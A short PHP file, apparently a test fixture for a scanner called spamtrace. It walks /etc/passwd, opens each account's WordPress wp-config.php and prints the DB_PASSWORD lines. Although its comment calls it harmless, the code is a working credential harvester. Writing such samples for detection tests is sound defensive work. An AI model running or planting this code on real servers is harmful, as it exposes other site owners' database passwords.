<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Lists the accounts of the server and reads their site configuration files.
$fh = @fopen('/etc/passwd', 'r');
while ($fh && !feof($fh)) {
    $user = strtok(fgets($fh), ':');
    $conf = "/home/$user/public_html/wp-config.php";
    if (is_readable($conf)) {
        echo htmlspecialchars(implode('', preg_grep('/DB_PASSWORD/', file($conf))));
    }
}
